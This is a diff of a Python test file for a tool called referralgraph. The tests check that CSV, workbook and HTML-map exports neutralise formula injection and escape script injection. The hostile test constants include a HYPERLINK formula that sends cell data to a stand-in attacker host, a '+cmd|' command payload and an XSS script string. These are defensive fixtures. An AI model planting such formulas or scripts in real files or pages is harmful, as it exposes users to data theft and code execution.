@@ -17,10 +17,8 @@ from pathlib import Path
 
 import pandas as pd
 import pytest
-from click.testing import CliRunner
 
 import referralgraph as rg
-from referralgraph.cli import cli
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 SCRIPT = "</script><script>window.__xss=1</script>"
@@ -47,11 +45,14 @@ def hostile(tmp_path_factory) -> Path:
     return folder
 
 
-def run(*args) -> object:
-    result = CliRunner().invoke(cli, [str(a) for a in args])
-    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
-    assert result.exit_code == 0, result.output
-    return result
+@pytest.fixture(scope="module")
+def run(run):
+    """The shared ``run`` of tests/conftest.py, asserting that the command succeeds."""
+    def succeed(*args):
+        result = run(*args)
+        assert result.exit_code == 0, result.output
+        return result
+    return succeed
 
 
 def all_text(path: Path) -> str:
@@ -68,7 +69,7 @@ def all_text(path: Path) -> str:
 
 
 class TestFormulas:
-    def test_csv_cells_are_neutralised(self, hostile, tmp_path):
+    def test_csv_cells_are_neutralised(self, hostile, tmp_path, run):
         run("export", hostile, tmp_path / "out")
         text = (tmp_path / "out" / "contacts.csv").read_text(encoding="utf-8-sig")
         assert "'=HYPERLINK(" in text and "'@SUM(1+1)" in text and "'-2+3" in text
@@ -76,13 +77,13 @@ class TestFormulas:
         assert "'+cmd|" in (tmp_path / "out" / "introductions.csv").read_text(encoding="utf-8-sig")
         assert rg.load(tmp_path / "out").equals(rg.load(hostile))  # and it reads back exactly
 
-    def test_no_neutralize_writes_them_as_they_are(self, hostile, tmp_path):
+    def test_no_neutralize_writes_them_as_they_are(self, hostile, tmp_path, run):
         run("export", hostile, tmp_path / "raw", "--no-neutralize")
         text = (tmp_path / "raw" / "contacts.csv").read_text(encoding="utf-8-sig")
         assert '"=HYPERLINK(' in text and "'=HYPERLINK(" not in text
 
     @pytest.mark.parametrize("neutralize", [True, False])
-    def test_workbook_cells_are_text_never_formulas(self, hostile, tmp_path, neutralize):
+    def test_workbook_cells_are_text_never_formulas(self, hostile, tmp_path, neutralize, run):
         import openpyxl
 
         run("export", hostile, tmp_path / "x.xlsx", *([] if neutralize else ["--no-neutralize"]))
@@ -93,7 +94,7 @@ class TestFormulas:
 
 class TestMap:
     @pytest.fixture(scope="class")
-    def page(self, hostile, tmp_path_factory):
+    def page(self, hostile, tmp_path_factory, run):
         out = tmp_path_factory.mktemp("map")
         run("map", hostile, "-o", out / "map.html", "--title", SCRIPT + IMG)
         assert sorted(p.name for p in out.iterdir()) == ["map.html"]  # one file, no lib/ folder
@@ -114,7 +115,7 @@ class TestMap:
         assert page.count("<script") == page.count("</script>")  # no script closed or opened by the data
         assert not re.search(r"<img|<iframe|\sonerror\s*=\s*[\"']", page, re.IGNORECASE)  # only escaped text
 
-    def test_anonymized_map_holds_no_private_string(self, hostile, tmp_path):
+    def test_anonymized_map_holds_no_private_string(self, hostile, tmp_path, run):
         run("map", hostile, "-o", tmp_path / "anon.html", "--anonymize")
         text = (tmp_path / "anon.html").read_text(encoding="utf-8")
         for s in PRIVATE + ["zelda-q", "yusuf-o", "Maya"]:
@@ -123,7 +124,7 @@ class TestMap:
 
 class TestAnonymizedExports:
     @pytest.mark.parametrize("name", ["csv-folder", "x.xlsx", "x.json", "x.graphml", "x.gexf"])
-    def test_no_private_string_anywhere(self, hostile, tmp_path, name):
+    def test_no_private_string_anywhere(self, hostile, tmp_path, name, run):
         out = tmp_path / name
         run("export", hostile, out, "--anonymize")
         text = all_text(out)
@@ -131,7 +132,7 @@ class TestAnonymizedExports:
             assert s not in text and html.escape(s) not in text, s
         assert "person-" in text and "seeker-" in text
 
-    def test_salt_gives_stable_pseudonyms_default_does_not(self, hostile, tmp_path):
+    def test_salt_gives_stable_pseudonyms_default_does_not(self, hostile, tmp_path, run):
         for k in range(2):
             run("export", hostile, tmp_path / f"s{k}.json", "--anonymize", "--salt", "secret")
             run("export", hostile, tmp_path / f"r{k}.json", "--anonymize")
@@ -139,7 +140,7 @@ class TestAnonymizedExports:
         assert (tmp_path / "r0.json").read_bytes() != (tmp_path / "r1.json").read_bytes()
 
 
-def test_writes_only_the_paths_given(hostile, tmp_path, monkeypatch):
+def test_writes_only_the_paths_given(hostile, tmp_path, monkeypatch, run):
     cwd = tmp_path / "cwd"
     cwd.mkdir()
     out = tmp_path / "out"
